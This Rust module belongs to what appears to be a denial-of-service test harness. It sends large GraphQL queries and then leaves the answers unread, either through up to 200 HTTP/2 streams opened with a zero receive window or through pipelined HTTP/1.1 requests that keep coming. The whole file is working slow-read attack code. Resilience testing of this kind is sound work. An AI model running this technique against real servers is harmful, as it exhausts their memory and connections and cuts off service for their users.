//! Answers that nobody reads: pipelined over HTTP/1.1, and over HTTP/2 with a window of zero.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::large_answers::COUNTRIES;
use super::target::Attacker;
use super::wire::{self, Request};

/// Streams that are asked for on one connection.
const STREAMS: usize = 200;
/// Requests that are written one after the other on a connection of HTTP/1.1.
const PIPELINED: usize = 50;

pub(crate) async fn round(attacker: &Attacker, _round: usize) -> io::Result<()> {
    let request = match attacker.token() {
        Some(token) => Request::graphql(COUNTRIES).with("authorization", token),
        None => Request::graphql(COUNTRIES),
    };
    // Most by HTTP/2, which holds more answers.
    if attacker.number.is_multiple_of(4) {
        pipelined(attacker, &request).await
    } else {
        streams(attacker, &request).await
    }
}

async fn streams(attacker: &Attacker, request: &Request) -> io::Result<()> {
    let mut client = wire::http2(attacker.target.address, 0).await?;
    let mut unread = Vec::new();
    for _ in 0..STREAMS {
        // Waits when there are as many as the server allows; it fails when the server ends the connection.
        let (again, answer) = wire::open(client, request).await?;
        client = again;
        // The head tells that the answer is there; nothing of its body is read.
        unread.push(tokio::spawn(answer));
        attacker.target.tally.count("unread streams");
    }
    // Until the connection is ended, by the server or with the attack.
    loop {
        sleep(Duration::from_millis(100)).await;
        client = client.ready().await.map_err(io::Error::other)?;
        unread.retain(|answer| !answer.is_finished());
    }
}

async fn pipelined(attacker: &Attacker, request: &Request) -> io::Result<()> {
    let mut stream = wire::connect(attacker.target.address, Some(4096)).await?;
    let bytes = request.bytes("keep-alive");
    for _ in 0..PIPELINED {
        stream.write_all(&bytes).await?;
        attacker.target.tally.count("unread pipelined");
    }
    loop {
        sleep(Duration::from_millis(500)).await;
        stream.write_all(&bytes).await?;
    }
}
